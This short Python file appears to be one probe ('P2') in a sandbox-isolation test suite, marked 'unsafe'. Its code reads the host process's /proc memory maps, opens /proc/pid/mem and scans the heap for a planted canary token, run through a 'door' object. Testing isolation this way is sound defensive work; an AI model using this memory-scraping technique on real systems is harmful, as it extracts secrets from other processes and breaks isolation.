"""P2: the memory of the host."""

POLICY = "unsafe"


CODE = """
import re
for line in open('/proc/{pid}/maps'):
    start, end = (int(x, 16) for x in line.split()[0].split('-'))
    if '[heap]' in line:
        memory = open('/proc/{pid}/mem', 'rb', 0)
        memory.seek(start)
        print(re.findall(rb'canary-[0-9a-f]{{24}}', memory.read(end - start)))
"""


def attack(door):
    door.run(CODE.format(pid=door.kernel.proc.pid))
